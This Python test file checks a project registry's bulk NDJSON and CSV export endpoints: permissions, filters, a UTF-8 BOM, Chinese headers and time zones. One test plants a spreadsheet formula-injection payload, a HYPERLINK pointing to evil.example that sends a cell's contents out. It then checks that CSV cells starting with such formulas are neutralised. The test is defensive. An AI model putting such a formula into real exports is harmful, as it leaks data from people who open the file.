"""Bulk export: NDJSON and CSV (UTF-8 with BOM) of the projects the bearer may read, with the list's filters."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from sqlalchemy import update

from store import tables
from tests.api.list_helpers import bulk_projects, insert_projects, project_row
from tests.utils import make_agencies


async def test_ndjson_exports_only_readable_projects_matching_the_filter_without_contact_details(
    api, client, session_factory
):
    # given two units' projects, in two states
    a = await make_agencies(api, session_factory, "unit", "unit2")
    await insert_projects(
        session_factory,
        [
            project_row(a.org["unit"], 1, name="营口市智慧教育云平台"),
            project_row(a.org["unit"], 2, status="IN_RESERVE"),
            project_row(a.org["unit2"], 3, name="教育局别家的项目"),
        ],
    )
    # when the first unit exports its projects under review that mention 教育
    response = await client.get(
        "/export/projects.ndjson",
        params={"status": "RESERVE_REVIEW", "search": "教育"},
        headers={"Authorization": f"Bearer {a.token['unit']}"},
    )
    rows = [json.loads(line) for line in response.text.splitlines()]
    # then only its own matching project comes, as JSON lines, without contact fields
    assert response.status_code == 200 and response.headers["content-type"] == "application/x-ndjson"
    assert [(r["code"], r["name"], r["statusLabel"]) for r in rows] == [
        ("YK-2026-0001", "营口市智慧教育云平台", "入库审核中")
    ]
    assert not any(key.startswith("contact") for key in rows[0])


async def test_csv_starts_with_a_bom_and_streams_more_rows_than_one_cursor_batch(
    api, client, session_factory
):
    # given 2,500 projects (more than two server-side cursor batches)
    a = await make_agencies(api, session_factory, "unit")
    await bulk_projects(session_factory, a.org["unit"], 2500)
    # when exported as CSV
    response = await client.get(
        "/export/projects.csv", headers={"Authorization": f"Bearer {a.token['unit']}"}
    )
    body = response.content
    table = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    # then Excel's UTF-8 marker leads, and every project is there once, Chinese intact
    assert body.startswith(b"\xef\xbb\xbf")
    assert response.headers["content-type"].startswith("text/csv")
    assert len(table) == 2500 and len({r["项目标识"] for r in table}) == 2500
    assert table[0]["项目名称"] == "营口市批量项目1" and table[0]["总投资（元）"] == "100001.00"


async def test_export_needs_a_token_and_well_formed_filters(api, client, session_factory):
    # given a signed-in unit
    a = await make_agencies(api, session_factory, "unit")
    # when exporting without a token, and with a malformed amount and an unknown status
    anonymous = await client.get("/export/projects.ndjson")
    bad_amount = await client.get(
        "/export/projects.csv",
        params={"investmentMin": "1.001"},
        headers={"Authorization": f"Bearer {a.token['unit']}"},
    )
    bad_status = await client.get(
        "/export/projects.csv",
        params={"status": "NOPE"},
        headers={"Authorization": f"Bearer {a.token['unit']}"},
    )
    # then 401 UNAUTHENTICATED and 400 BAD_USER_INPUT naming the parameter
    assert (anonymous.status_code, anonymous.json()["errors"][0]["extensions"]["code"]) == (
        401,
        "UNAUTHENTICATED",
    )
    assert (bad_amount.status_code, bad_amount.json()["errors"][0]["extensions"]["field"]) == (
        400,
        "investmentMin",
    )
    assert (bad_status.status_code, bad_status.json()["errors"][0]["extensions"]["field"]) == (400, "status")


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
async def test_csv_cells_starting_a_formula_are_prefixed_with_a_quote_and_ndjson_is_unchanged(
    api, client, session_factory, owner_session_factory, prefix
):
    # given a project whose name and lead unit's name start with a formula trigger (renamed as the owner:
    # the API never renames an organization, so its role may not)
    a = await make_agencies(api, session_factory, "unit")
    evil = prefix + 'HYPERLINK("http://evil.example/?x="&A1,"点击")'
    async with owner_session_factory() as session, session.begin():
        await session.execute(
            update(tables.organizations).where(tables.organizations.c.id == a.org["unit"]).values(name=evil)
        )
    await insert_projects(session_factory, [project_row(a.org["unit"], 1, name=evil)])
    auth = {"Authorization": f"Bearer {a.token['unit']}"}
    # when exported as CSV (people's and machines' columns) and as NDJSON
    people = _csv_rows(await client.get("/export/projects.csv", headers=auth))
    machines = _csv_rows(await client.get("/export/projects.csv", params={"header": "en"}, headers=auth))
    ndjson = json.loads((await client.get("/export/projects.ndjson", headers=auth)).text.splitlines()[0])
    # then every CSV cell holding it starts with a quote, and the NDJSON keeps the name as it is
    name_zh, lead_zh = people[0].index("项目名称"), people[0].index("牵头单位")
    assert (people[1][name_zh], people[1][lead_zh]) == ("'" + evil, "'" + evil)
    assert machines[1][machines[0].index("name")] == "'" + evil
    assert (ndjson["name"], ndjson["leadOrganization"]) == (evil, evil)


async def test_csv_cells_that_only_contain_a_trigger_later_are_left_alone(api, client, session_factory):
    # given names with = + - @ inside, not at the start
    a = await make_agencies(api, session_factory, "unit")
    await insert_projects(session_factory, [project_row(a.org["unit"], 1, name="营口市A=B+C-D@E平台")])
    # when exported as CSV
    rows = _csv_rows(
        await client.get("/export/projects.csv", headers={"Authorization": f"Bearer {a.token['unit']}"})
    )
    # then the name is not altered
    assert rows[1][rows[0].index("项目名称")] == "营口市A=B+C-D@E平台"


async def test_csv_for_people_has_chinese_headers_labels_yes_no_and_china_time_with_offset(
    api, client, session_factory
):
    # given a project created at 2026-03-01 16:30 UTC (00:30 the next day in Yingkou), not on the cloud
    a = await make_agencies(api, session_factory, "unit")
    at = datetime(2026, 3, 1, 16, 30, tzinfo=UTC)
    await insert_projects(
        session_factory,
        [
            project_row(
                a.org["unit"],
                1,
                kind="UPGRADE",
                funding_source="PPP",
                deploys_on_government_cloud=False,
                created_at=at,
                updated_at=at,
                submitted_at=at,
            )
        ],
    )
    # when exported as CSV without asking for a language
    rows = _csv_rows(
        await client.get("/export/projects.csv", headers={"Authorization": f"Bearer {a.token['unit']}"})
    )
    row = dict(zip(rows[0], rows[1], strict=True))
    # then headers and values are for people
    assert rows[0][:4] == ["项目标识", "项目编号", "项目名称", "项目状态"]
    assert row["项目状态"] == "入库审核中"
    assert (row["项目类型"], row["项目类别"], row["资金来源"]) == (
        "升级改造",
        "业务信息系统",
        "政府主导、社会资本参与",
    )
    assert (row["依托政务云部署"], row["接入政务信息资源库平台"]) == ("否", "是")
    assert row["创建时间"] == row["提交入库时间"] == "2026-03-02 00:30:00+08:00"


@pytest.mark.parametrize(("params", "headers"), [({"header": "en"}, {}), ({}, {"Accept-Language": "en"})])
async def test_csv_for_machines_has_the_ndjson_columns_on_request(
    api, client, session_factory, params, headers
):
    # given a project
    a = await make_agencies(api, session_factory, "unit")
    await insert_projects(session_factory, [project_row(a.org["unit"], 1)])
    # when exported as CSV with header=en, or with Accept-Language: en
    rows = _csv_rows(
        await client.get(
            "/export/projects.csv",
            params=params,
            headers={"Authorization": f"Bearer {a.token['unit']}"} | headers,
        )
    )
    row = dict(zip(rows[0], rows[1], strict=True))
    # then the columns are the NDJSON keys, with codes rather than labels
    assert rows[0][:5] == ["id", "code", "name", "status", "statusLabel"]
    assert (row["status"], row["kind"], row["fundingSource"]) == ("RESERVE_REVIEW", "BUILD", "FISCAL")


async def test_csv_header_parameter_overrides_accept_language_and_refuses_unknown_values(
    api, client, session_factory
):
    # given a signed-in unit with a project
    a = await make_agencies(api, session_factory, "unit")
    await insert_projects(session_factory, [project_row(a.org["unit"], 1)])
    auth = {"Authorization": f"Bearer {a.token['unit']}", "Accept-Language": "en"}
    # when asking for Chinese headers in English, and for an unknown header language
    zh = _csv_rows(await client.get("/export/projects.csv", params={"header": "zh"}, headers=auth))
    unknown = await client.get("/export/projects.csv", params={"header": "fr"}, headers=auth)
    # then the parameter wins, and an unknown value is a 400 naming it
    assert zh[0][2] == "项目名称"
    assert (unknown.status_code, unknown.json()["errors"][0]["extensions"]["field"]) == (400, "header")
